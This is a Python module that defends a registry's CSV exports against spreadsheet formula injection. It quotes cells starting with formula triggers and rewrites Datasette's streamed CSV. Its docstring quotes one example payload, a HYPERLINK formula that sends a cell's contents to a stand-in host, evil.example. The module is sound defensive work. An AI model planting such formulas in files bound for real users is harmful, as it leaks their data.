"""Cells a spreadsheet will not run: the one rule for every CSV made for people.

A spreadsheet that opens a CSV reads a cell beginning with ``=`` as a formula
(LibreOffice Calc and Excel; Excel, OWASP says, also ``+``, ``-`` and ``@``), so text
someone typed into the registry, e.g. ``=HYPERLINK("http://evil.example/?x="&A1,"点击")``,
would run on the reader's machine: CSV (formula) injection. OWASP's remedy
(https://owasp.org/www-community/attacks/CSV_Injection, CWE-1236) is that no
cell may begin with ``=``, ``+``, ``-``, ``@``, tab (0x09), carriage return
(0x0D) or line feed (0x0A); a cell that does is prefixed with a single quote
``'``, which makes the spreadsheet read it as text. :func:`safe_cell` is that
rule, for the site's ``downloads/*.csv`` (``registry.publish.export.csv_bom``)
and for Datasette's ``.csvbom`` and ``.csv`` (``plugins/datasette``:
:class:`SafeCsvStream` rewrites Datasette's own streamed CSV).

Decisions (``docs/publishing.md``, "CSV for spreadsheets"):

* **Numbers stay numbers.** A numeric value (SQLite INTEGER or REAL) is
  never changed, and neither is text that is a plain negative decimal number
  (``-12``, ``-0.5``, ``-1.5e3``): a spreadsheet reads it as a number and
  runs nothing, and Datasette's ``.csv`` no longer tells a number column
  from a text one. Every other text beginning with a trigger is prefixed,
  a lone ``-`` placeholder included (it shows as ``'-``).
* **A leading quote is itself quoted** (``'abc`` → ``''abc``), beyond OWASP's
  list, so the rule can be undone: a cell begins with ``'`` exactly when one
  was added, and removing that one character gives the true text.
* **Full-width look-alikes are left alone**: LibreOffice Calc 7.4 (Debian 12)
  reads ``＝1+1``, ``＋``, ``－``, ``＠`` as text, measured by
  ``tests/publish/test_csv_safety.py``, which keeps checking it.
* The true values are in the JSON (``api/``, Datasette's ``.json``) and in
  SQLite (``data/registry.db``, ``downloads/registry.db``); only CSV is changed.

Quoting the field itself (commas, quotes, line breaks inside a value; OWASP's
second point) is the CSV writer's job: Python's ``csv`` quotes such a field
whole (RFC 4180), so a value cannot start a cell of its own.
"""

from __future__ import annotations

import re
from typing import TypeVar

#: What a spreadsheet may run when it begins a cell (OWASP, "CSV Injection").
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n")
#: The prefix that makes a spreadsheet read a cell as text.
QUOTE = "'"

# A plain negative decimal number (ASCII digits only): a number to a
# spreadsheet, not a formula.
_NEGATIVE_NUMBER = re.compile(r"-(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")

_QUOTED_STARTS = FORMULA_TRIGGERS | {QUOTE}

T = TypeVar("T")


def needs_quote(text: str) -> bool:
    """Whether the cell ``text`` must be prefixed with :data:`QUOTE` (see the module)."""
    first = text[:1]
    if first == QUOTE:
        return True
    return first in FORMULA_TRIGGERS and not _NEGATIVE_NUMBER.fullmatch(text)


def safe_cell(value: T) -> T | str:
    """``value`` as a spreadsheet may be given it: text that would begin a
    formula gets a leading :data:`QUOTE`; anything else (numbers, None, safe
    text) is returned as it is."""
    # The first test is needs_quote's own, inlined: most cells stop there.
    if isinstance(value, str) and value[:1] in _QUOTED_STARTS and needs_quote(value):
        return QUOTE + value
    return value


# ------------------------------------------------------- CSV already written
# Datasette's .csv arrives as UTF-8 bytes, and is rewritten as bytes: every
# byte that matters to CSV (quote, comma, CR, LF) and to the rule is ASCII,
# and no ASCII byte occurs inside a multi-byte UTF-8 character, so a piece
# may end anywhere and nothing needs decoding but a cell that may need a quote.

# One field as Python's csv module writes it (RFC 4180, quotes doubled inside
# a quoted field): a quoted field, its closing quote optional at the end of
# the text, or a run of unquoted text. Separators are not matched, so re.sub
# leaves them as they are.
_FIELD = re.compile(rb'"([^"]*(?:""[^"]*)*)"?|[^,\r\n"]+')
# Every place where a cell that needs a quote could begin (after a separator
# or a line end, bare or after an opening double quote; _MAYBE_FIRST: at the
# very start), and some places inside quoted fields too: bytes without a
# match need no change. A search for it runs at C speed.
_MAYBE = re.compile(rb'[,\r\n](?:[=+\-@\t\']|"[=+\-@\t\r\n\'])')
_MAYBE_FIRST = re.compile(rb'[=+\-@\t\']|"[=+\-@\t\r\n\']')
_QUOTE_BYTES = QUOTE.encode()


def _needs_quote(value: bytes) -> bool:
    return needs_quote(value.decode("utf-8", errors="surrogateescape"))


def _safe_field(match: re.Match[bytes]) -> bytes:
    field = match.group()
    inner = match.group(1)
    if inner is None:
        return _QUOTE_BYTES + field if _needs_quote(field) else field
    # Inside the quotes, after the opening one: "'=1+1" is the text '=1+1.
    return b'"' + _QUOTE_BYTES + field[1:] if _needs_quote(inner.replace(b'""', b'"')) else field


def safe_csv(data: bytes) -> bytes:
    """CSV ``data`` (UTF-8, whole records) with every cell passed through :func:`safe_cell`.

    Only the quotes are inserted; every other byte, separators, line ends and
    bytes that are not UTF-8 included, is kept, so a file that needed no
    change comes back byte for byte.
    """
    if not (_MAYBE_FIRST.match(data) or _MAYBE.search(data)):
        return data
    return _FIELD.sub(_safe_field, data)


class SafeCsvStream:
    """:func:`safe_csv` over CSV bytes that arrive in pieces (a streamed response).

    :meth:`feed` returns the rewritten bytes of every record completed so far
    (a record ends at a line feed outside quotes: an even number of double
    quotes before it) and keeps the rest for the next piece; :meth:`close`
    returns what is left.
    """

    def __init__(self) -> None:
        self._pending = b""
        self._pending_quotes = 0  # double quotes in _pending

    def feed(self, data: bytes) -> bytes:
        start = len(self._pending)
        text = self._pending + data
        total = self._pending_quotes + data.count(b'"')
        # The last line feed outside quotes (_pending holds none: look in data
        # only), walking back from the end; `quotes` counts those in text[:pos].
        pos, quotes = len(text), total
        while True:
            lf = text.rfind(b"\n", start, pos)
            if lf < 0:
                self._pending, self._pending_quotes = text, total
                return b""
            quotes -= text.count(b'"', lf, pos)
            pos = lf
            if quotes % 2 == 0:
                break
        self._pending, self._pending_quotes = text[pos + 1:], total - quotes
        return safe_csv(text[:pos + 1])

    def close(self) -> bytes:
        text, self._pending, self._pending_quotes = self._pending, b"", 0
        return safe_csv(text)
